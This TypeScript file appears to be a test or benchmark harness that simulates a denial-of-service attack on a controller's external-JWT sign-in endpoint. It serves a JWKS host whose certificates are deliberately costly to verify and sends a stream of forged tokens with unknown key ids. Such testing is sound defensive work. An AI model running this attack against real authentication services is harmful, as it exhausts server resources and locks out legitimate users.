// A JWKS host whose certificates take long to verify, and sign-ins that make the controller ask it.
import { once } from 'node:events';
import { request } from 'node:https';
import type { AddressInfo } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { createServer } from 'node:tls';
import { hugeExponents } from '../packages/server/test/support/costly-chains.ts';

interface Order {
  readonly url: string;
  /** The issuer of the signer. */
  readonly issuer: string;
  readonly seconds: number;
}

/** Milliseconds between two sign-ins; each has a key that nobody knows. */
const interval = 100;

const server = createServer(hugeExponents())
  .on('tlsClientError', () => undefined)
  // The controller resets connections whose certificates it refuses.
  .on('secureConnection', (socket) => socket.on('error', () => undefined))
  .listen(0, '127.0.0.1');
await once(server, 'listening');
process.on('message', async (order: Order) => process.send?.({ signIns: await attack(order) }));
process.send?.({ port: (server.address() as AddressInfo).port });

async function attack({ url, issuer, seconds }: Order): Promise<number> {
  const end = performance.now() + seconds * 1_000;
  let signIns = 0;
  for (; performance.now() < end; signIns += 1) {
    signIn(`${url}/edge/client/v1/authenticate?method=ext-jwt`, jwtOf(issuer, `key ${signIns} ${end}`));
    await setTimeout(interval);
  }
  return signIns;
}

function jwtOf(iss: string, kid: string): string {
  const encode = (part: object) => Buffer.from(JSON.stringify(part)).toString('base64url');
  const exp = Math.floor(Date.now() / 1_000) + 600;
  const signature = Buffer.alloc(64, 1).toString('base64url');
  return [encode({ alg: 'ES256', kid }), encode({ iss, aud: 'bench', sub: 'nobody', exp }), signature].join('.');
}

function signIn(url: string, jwt: string): void {
  const headers = { authorization: `Bearer ${jwt}`, 'content-type': 'application/json', 'content-length': 2 };
  const outgoing = request(url, { method: 'POST', headers, localAddress: '127.0.1.1', rejectUnauthorized: false });
  outgoing.on('response', (response) => response.resume()).on('error', () => undefined);
  outgoing.end('{}');
}
